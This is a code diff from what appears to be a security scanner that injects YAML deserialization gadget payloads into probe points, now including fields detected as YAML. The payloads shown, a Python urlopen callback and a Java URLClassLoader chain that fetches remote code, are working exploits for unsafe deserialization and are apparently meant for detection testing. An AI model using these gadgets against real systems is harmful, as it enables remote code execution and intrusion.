@@ -30,6 +30,8 @@ const mapOfUrl = (host: string): Uint8Array => {
   return Buffer.concat([Buffer.from(MAP_OF_URL, 'base64'), length, name, Buffer.from(END_OF_MAP, 'base64')])
 }
 
+const YAML = 'YAML that names a class'
+
 export const OBJECTS: readonly CallingObject[] = [
   {
     flavour: 'Java, a map with a URL',
@@ -44,12 +46,12 @@ export const OBJECTS: readonly CallingObject[] = [
   },
   {
     flavour: 'Python, YAML',
-    format: 'YAML that names a class',
+    format: YAML,
     of: ({ url }) => `!!python/object/apply:urllib.request.urlopen ["${url}"]`,
   },
   {
     flavour: 'Java, YAML',
-    format: 'YAML that names a class',
+    format: YAML,
     of: ({ url }) => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}"]]]]`,
   },
   {
@@ -77,11 +79,17 @@ export const OBJECTS: readonly CallingObject[] = [
   },
 ]
 
+/** A document of YAML, by its name or its first line: what reads it may build objects, though it holds none yet. */
+const isYaml = ({ name, value }: ProbePoint): boolean =>
+  /(?:^|[^a-z])ya?ml(?:$|[^a-z])/i.test(name) ||
+  /^(?:---|%YAML)\s|^[\w"'-]{1,40}:(?:[ \t][^\n]*)?\n\s*(?:-\s|[\w"'-]{1,40}:)/.test(value)
+
 /** A value of a place as one that holds the object, coded alike; null where it would hold none. */
 export const objectFor = (point: ProbePoint, one: CallingObject, address: OobAddress): string | null => {
   if (one.looksUp && address.host === null) return null
   const object = one.of(address)
   const read = readingOf(point.value)
+  if (one.format === YAML && isYaml(point)) return read.code(Buffer.from(object))
   if (one.format === 'JSON') return read.json === null ? null : read.code(Buffer.from(withMember(read.json, object)))
   return read.formats.includes(one.format) ? read.code(Buffer.from(object)) : null
 }
